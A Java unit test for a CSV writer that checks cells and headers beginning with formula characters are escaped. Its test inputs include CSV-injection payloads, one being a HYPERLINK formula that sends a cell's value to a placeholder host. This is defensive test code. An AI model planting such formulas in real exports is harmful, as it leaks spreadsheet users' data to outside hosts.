package ai.cacheblend.orchestrator.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class CsvTableTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "=HYPERLINK(\"http://host/?\"&A1,\"x\")"
      })
  void textThatASpreadsheetWouldEvaluateIsText(String formula) {
    CsvTable table = new CsvTable(List.of("first", "second"));
    table.row(List.of(formula, "x"));

    String line = table.render().substring("first,second\n".length());

    assertThat(line.startsWith("\"") ? line.substring(1) : line).startsWith("'");
    assertThat(line.replace("\"\"", "\"")).contains("'" + formula);
  }

  @Test
  void numbersAndOtherTextStayAsTheyAre() {
    CsvTable table = new CsvTable(List.of("a", "b", "c", "d", "e"));
    table.row(Arrays.asList(-0.5, -3, "a=b", true, null));

    assertThat(table.render()).isEqualTo("a,b,c,d,e\n-0.5,-3,a=b,true,\n");
  }

  @Test
  void namesOfColumnsAreText() {
    CsvTable table = new CsvTable(List.of("=1+1", "b"));
    table.row(List.of(1, 2));

    assertThat(table.render()).isEqualTo("\"'=1+1\",b\n1,2\n");
  }
}
